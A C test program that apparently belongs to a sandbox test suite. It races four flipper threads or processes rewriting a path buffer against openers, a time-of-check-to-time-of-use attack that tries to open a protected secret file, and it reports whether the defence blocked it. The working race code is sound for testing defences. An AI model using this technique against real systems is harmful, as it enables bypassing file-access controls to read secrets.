/* toctou_path MODE TARGET COUNT: four flippers rewrite a path buffer between
 * an allowed file (ATK_PUBLIC) and a secret (TARGET: "secret", outside the
 * allowed trees, or "vault", inside one) while openers open it, COUNT opens
 * in all. Won when an open returns a secret's content.
 *
 * The two paths differ in one aligned 8-byte word ("work/pub" and
 * "secret/." or "work/vlt"), so each flip is a single store: the buffer always names one of
 * the two files. A reader that copies it in smaller pieces can still see a
 * torn mix, which names no file (ENOENT): counted, and harmless.
 *
 * Modes: who flips, and who opens.
 *   threads    4 flipper threads; the main thread and one more thread open
 *   clonevm    4 flipper processes made with clone(CLONE_VM) (no CLONE_THREAD)
 *   mapshared  4 forked flipper processes sharing only a MAP_SHARED page
 *   vfork      4 flipper threads; a vfork child (sharing the memory) opens
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define FLIPPERS 4
#define PREFIX	 ATK_ROOT "//" /* 24 bytes: the word starts at storage + 24 */

struct race {
	_Alignas(64) char storage[64]; /* the path */
	uint64_t word_public, word_secret;
	long count;
	atomic_long attempts, opened_public, refused, torn, other_errors;
	atomic_int stop;
	atomic_long won_at;	/* attempt number of the win, or 0 */
	atomic_int other_errno; /* the last unexpected errno */
};

static struct race *race;

static char *path(void)
{
	return race->storage;
}

static uint64_t *word(void)
{
	return (uint64_t *)(void *)(race->storage + strlen(PREFIX));
}

static void setup(const char *target)
{
	race = mmap(NULL, sizeof(*race), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (race == MAP_FAILED)
		atk_result(ATK_ERROR, "mmap: %s", atk_errname(errno));
	memcpy(&race->word_public, "work/pub", 8);
	memcpy(&race->word_secret,
	       strcmp(atk_target(target), ATK_VAULT) == 0 ? "work/vlt" : "secret/.", 8);
	snprintf(path(), sizeof(race->storage), "%swork/pub/key", PREFIX);
	if (((uintptr_t)word() & 7) != 0 || strlen(PREFIX) != 24)
		atk_result(ATK_ERROR, "path layout");
}

static void flip_forever(void)
{
	uint64_t *w = word();
	while (!atomic_load_explicit(&race->stop, memory_order_relaxed)) {
		__atomic_store_n(w, race->word_secret, __ATOMIC_RELAXED);
		__atomic_store_n(w, race->word_public, __ATOMIC_RELAXED);
	}
}

static void *flipper_thread(void *arg)
{
	(void)arg;
	flip_forever();
	return NULL;
}

static int flipper_clone(void *arg)
{
	(void)arg;
	flip_forever();
	return 0;
}

/* Opens until COUNT attempts are used up or someone won. Safe in a vfork
 * child: no stdio, no allocation. */
static void open_loop(void)
{
	long n;
	while (!atomic_load(&race->stop) &&
	       (n = atomic_fetch_add(&race->attempts, 1)) < race->count) {
		int fd = open(path(), O_RDONLY | O_CLOEXEC);
		if (fd < 0 && (errno == EACCES || errno == EPERM)) {
			atomic_fetch_add(&race->refused, 1);
			continue;
		}
		if (fd < 0 && errno == ENOENT) {
			atomic_fetch_add(&race->torn, 1);
			continue;
		}
		if (fd < 0) {
			atomic_store(&race->other_errno, errno);
			atomic_fetch_add(&race->other_errors, 1);
			continue;
		}
		if (atk_fd_is_secret(fd)) {
			race->won_at = n + 1;
			atomic_store(&race->stop, 1);
		} else {
			atomic_fetch_add(&race->opened_public, 1);
		}
		close(fd);
	}
}

static void *opener_thread(void *arg)
{
	(void)arg;
	open_loop();
	return NULL;
}

static int finish(const char *mode)
{
	long attempts = atomic_load(&race->attempts);
	if (attempts > race->count)
		attempts = race->count;
	if (race->won_at > 0)
		atk_result(ATK_WON, "%s: read the secret at attempt %ld", mode, race->won_at);
	long pub = race->opened_public, refused = race->refused, other = race->other_errors;
	if (pub == 0 || refused == 0 || other > 0)
		atk_result(ATK_ERROR,
			   "%s: race not exercised: %ld attempts, %ld public opens, %ld refused, "
			   "%ld other errors (last %s)",
			   mode, attempts, pub, refused, other,
			   other > 0 ? atk_errname(race->other_errno) : "none");
	atk_result(ATK_BLOCKED,
		   "%s: %ld attempts, %ld public opens, %ld refused, %ld torn (ENOENT), never the "
		   "secret",
		   mode, attempts, pub, refused, (long)race->torn);
}

static void start_threads(pthread_t *t, int n, void *(*fn)(void *))
{
	for (int i = 0; i < n; i++) {
		if (pthread_create(&t[i], NULL, fn, NULL) != 0)
			atk_result(ATK_ERROR, "pthread_create failed");
	}
}

static void join_threads(pthread_t *t, int n)
{
	for (int i = 0; i < n; i++)
		pthread_join(t[i], NULL);
}

static void reap(pid_t *pids, int n)
{
	for (int i = 0; i < n; i++) {
		kill(pids[i], SIGKILL);
		waitpid(pids[i], NULL, __WALL);
	}
}

/* The main thread and one more thread open. */
static void open_with_two_threads(void)
{
	pthread_t t;
	start_threads(&t, 1, opener_thread);
	open_loop();
	join_threads(&t, 1);
}

/* argv: MODE TARGET COUNT */
static void parse(int argc, char **argv)
{
	long count = argc >= 3 ? strtol(argv[2], NULL, 10) : 0;
	if (count <= 0)
		atk_result(ATK_ERROR, "usage: toctou_path MODE secret|vault COUNT");
	setup(argv[1]);
	race->count = count;
}

static int mode_threads(int argc, char **argv)
{
	parse(argc, argv);
	pthread_t flippers[FLIPPERS];
	start_threads(flippers, FLIPPERS, flipper_thread);
	open_with_two_threads();
	atomic_store(&race->stop, 1);
	join_threads(flippers, FLIPPERS);
	return finish("threads");
}

static int mode_clonevm(int argc, char **argv)
{
	parse(argc, argv);
	pid_t pids[FLIPPERS];
	for (int i = 0; i < FLIPPERS; i++) {
		size_t size = 64 * 1024;
		char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
		if (stack == MAP_FAILED)
			atk_result(ATK_ERROR, "mmap stack: %s", atk_errname(errno));
		pids[i] = clone(flipper_clone, stack + size, CLONE_VM | SIGCHLD, NULL);
		if (pids[i] < 0)
			atk_result(ATK_ERROR, "clone(CLONE_VM): %s", atk_errname(errno));
	}
	open_with_two_threads();
	atomic_store(&race->stop, 1);
	reap(pids, FLIPPERS);
	return finish("clonevm");
}

static int mode_mapshared(int argc, char **argv)
{
	parse(argc, argv);
	pid_t pids[FLIPPERS];
	for (int i = 0; i < FLIPPERS; i++) {
		pids[i] = fork();
		if (pids[i] < 0)
			atk_result(ATK_ERROR, "fork: %s", atk_errname(errno));
		if (pids[i] == 0) {
			flip_forever();
			_exit(0);
		}
	}
	open_with_two_threads();
	atomic_store(&race->stop, 1);
	reap(pids, FLIPPERS);
	return finish("mapshared");
}

static int mode_vfork(int argc, char **argv)
{
	parse(argc, argv);
	pthread_t flippers[FLIPPERS];
	start_threads(flippers, FLIPPERS, flipper_thread);
	/* The child borrows this thread's memory and stack until it exits;
	 * only this thread is suspended, the flippers run on. */
	pid_t pid = vfork();
	if (pid == 0) {
		open_loop();
		_exit(0);
	}
	if (pid < 0)
		atk_result(ATK_ERROR, "vfork: %s", atk_errname(errno));
	int status;
	waitpid(pid, &status, 0);
	atomic_store(&race->stop, 1);
	join_threads(flippers, FLIPPERS);
	if (race->won_at == 0 && (!WIFEXITED(status) || WEXITSTATUS(status) != 0))
		atk_result(ATK_BLOCKED, "vfork: the opening child died (status 0x%x)", status);
	return finish("vfork");
}

int main(int argc, char **argv)
{
	static const struct atk_mode modes[] = {
		{ "threads", mode_threads },
		{ "clonevm", mode_clonevm },
		{ "mapshared", mode_mapshared },
		{ "vfork", mode_vfork },
		{ NULL, NULL },
	};
	atk_dispatch(modes, argc, argv);
}
